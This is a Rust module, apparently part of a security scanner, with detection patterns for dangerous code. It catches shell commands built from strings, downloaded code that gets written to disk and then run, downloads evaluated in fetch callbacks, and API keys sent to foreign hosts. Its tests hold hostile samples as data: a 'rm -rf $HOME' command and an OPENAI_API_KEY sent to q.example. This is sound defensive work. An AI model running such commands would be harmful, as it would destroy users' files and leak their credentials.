//! Calls the statement reader cannot follow by names alone: a shell
//! command built as a string (`os.system("rm -rf " + HOME)`), a download
//! written to a file and then imported or run, a download evaluated in
//! the callback that fetched it, and a vendor's key sent to a host that
//! is not the vendor's.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use super::{FETCH, Held, LITERAL, ShellRead, held_by, names_home, split_top, until_close};

/// A call that hands one string to a shell.
static SHELL_STRING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&super::super::context::ascii_classes(
        r"\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|getoutput|getstatusoutput|Popen)|execSync|child_process\.exec|shell_exec|passthru|Kernel\.system|%x)\s*\(",
    ))
    .expect("valid pattern")
});

/// `expr` split at its `+` outside quotes and brackets.
fn split_plus(expr: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let (mut depth, mut quote, mut start) = (0i32, None::<char>, 0);
    let mut prev = ' ';
    for (i, c) in expr.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q && prev != '\\' => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'' | '`') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => depth -= 1,
            (None, '+') if depth == 0 => {
                parts.push(&expr[start..i]);
                start = i + 1;
            }
            _ => {}
        }
        prev = c;
    }
    parts.push(&expr[start..]);
    parts
}

/// The shell line a string expression spells: literals as written (an
/// f-string's or template's fields as `$HOME` or a placeholder word),
/// the home folder as `$HOME`, anything else a placeholder.
fn spelled(expr: &str, names: &HashMap<String, Held>) -> String {
    static FIELD: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"\$?\{([^{}]*)\}").expect("valid pattern"));
    let home = |e: &str| names_home(e) || held_by(names, e).home;
    let mut out = String::new();
    for part in split_plus(expr) {
        let p = part.trim();
        let f_string = p.starts_with(['f', 'F']) && p[1..].starts_with(['"', '\'']);
        let lit = p.trim_start_matches(['f', 'F']);
        match LITERAL
            .captures(lit)
            .filter(|c| c.get(0).is_some_and(|m| m.start() == 0))
        {
            Some(c) => {
                let body = c
                    .get(1)
                    .or(c.get(2))
                    .or(c.get(3))
                    .map_or("", |m| m.as_str());
                if f_string || lit.starts_with('`') {
                    let body = FIELD.replace_all(body, |f: &regex::Captures| {
                        if home(&f[1]) {
                            "$HOME".to_string()
                        } else {
                            "ARG".to_string()
                        }
                    });
                    out.push_str(&body);
                } else {
                    out.push_str(body);
                }
            }
            None if home(p) => out.push_str("$HOME"),
            None => out.push_str("ARG"),
        }
    }
    out
}

/// A shell command given as one string: read by the shell model.
pub(super) fn shell_string(
    code: &str,
    names: &HashMap<String, Held>,
    shell: &dyn Fn(&str) -> ShellRead,
) -> Option<ShellRead> {
    let m = SHELL_STRING.find(code)?;
    let args = until_close(&code[m.end()..]);
    let first = split_top(args).next()?.trim();
    if first.starts_with('[') || first.is_empty() {
        return None;
    }
    let line = spelled(first, names);
    line.contains(' ').then(|| shell(&line))
}

/// A string literal that names a code file.
fn code_paths(code: &str) -> Vec<String> {
    LITERAL
        .captures_iter(code)
        .filter_map(|c| c.get(1).or(c.get(2)).or(c.get(3)).map(|m| m.as_str()))
        .filter(|p| {
            [
                ".py", ".js", ".mjs", ".cjs", ".rb", ".pl", ".php", ".sh", ".ps1",
            ]
            .iter()
            .any(|e| p.ends_with(e))
        })
        .map(str::to_string)
        .collect()
}

/// Files a download is written to, by path and by module name.
#[derive(Default)]
pub(super) struct Written(Vec<String>);

impl Written {
    /// A line writing fetched bytes into a file of code.
    pub(super) fn note(&mut self, code: &str, fetched: bool) {
        let writes = [
            "write_bytes(",
            "write_text(",
            ".write(",
            "writeFileSync(",
            "writeFile(",
        ]
        .iter()
        .any(|w| code.contains(w));
        if writes && (fetched || FETCH.is_match(code)) {
            for p in code_paths(code) {
                let stem = p.rsplit('/').next().unwrap_or(&p);
                let stem = stem.rsplit_once('.').map_or(stem, |(s, _)| s).to_string();
                self.0.push(p);
                self.0.push(stem);
            }
        }
    }

    /// A line importing or running a file noted.
    pub(super) fn loaded(&self, code: &str) -> bool {
        const LOADS: &[&str] = &[
            "import_module(",
            "__import__(",
            "run_path(",
            "spec_from_file_location(",
            "require(",
            "import(",
            "load(",
            "exec(",
            "subprocess.",
            "os.system(",
            "execSync(",
        ];
        LOADS.iter().any(|l| code.contains(l))
            && LITERAL.captures_iter(code).any(|c| {
                c.get(1)
                    .or(c.get(2))
                    .or(c.get(3))
                    .is_some_and(|m| self.0.iter().any(|w| w == m.as_str()))
            })
    }
}

/// A download evaluated on the line that fetched it (in its callback).
pub(super) fn evaluated_in_callback(code: &str) -> bool {
    static EVAL: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"\b(?:eval|Function|runInThisContext|runInNewContext|runInContext)\s*\(|\bimport\s*\(\s*[\x22'`]data:")
            .expect("valid pattern")
    });
    match (FETCH.find(code), EVAL.find(code)) {
        (Some(f), Some(e)) => f.start() < e.start(),
        _ => false,
    }
}

/// A vendor's key (`OPENAI_API_KEY`) read from the environment on a line
/// that calls a URL on another host.
pub(super) fn vendor_key_elsewhere(code: &str, vars: &[(&str, &[&str])]) -> bool {
    static URL: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r#"https?://([A-Za-z0-9.-]+)"#).expect("valid pattern"));
    let env = [
        "environ",
        "getenv",
        "process.env",
        "ENV[",
        "ENV.fetch",
        "env::var",
    ];
    if !env.iter().any(|e| code.contains(e)) {
        return false;
    }
    vars.iter().any(|(var, hosts)| {
        code.contains(var)
            && URL.captures_iter(code).any(|c| {
                let h = c[1].to_ascii_lowercase();
                !hosts
                    .iter()
                    .any(|v| h == *v || h.ends_with(&format!(".{v}")))
            })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strings_spell_shell_lines() {
        let names = HashMap::new();
        assert_eq!(
            spelled(r#""rm -rf " + os.environ["HOME"] + "/""#, &names),
            "rm -rf $HOME/"
        );
        assert_eq!(
            spelled(r#"f"rm -rf {os.path.expanduser('~')}""#, &names),
            "rm -rf $HOME"
        );
        assert_eq!(spelled(r#""rm -rf " + path"#, &names), "rm -rf ARG");
    }

    #[test]
    fn callbacks_and_vendor_keys() {
        assert!(evaluated_in_callback(
            "https.get(u, (r) => { r.on('end', () => vm.runInNewContext(s)); });"
        ));
        assert!(!evaluated_in_callback("vm.runInNewContext(expr, {});"));
        let vars: &[(&str, &[&str])] = &[("OPENAI_API_KEY", &["openai.com"])];
        assert!(vendor_key_elsewhere(
            r#"requests.get("https://q.example/v1", params={"k": os.environ["OPENAI_API_KEY"]})"#,
            vars
        ));
        assert!(!vendor_key_elsewhere(
            r#"requests.get("https://api.openai.com/v1/models", headers={"A": os.environ["OPENAI_API_KEY"]})"#,
            vars
        ));
    }
}
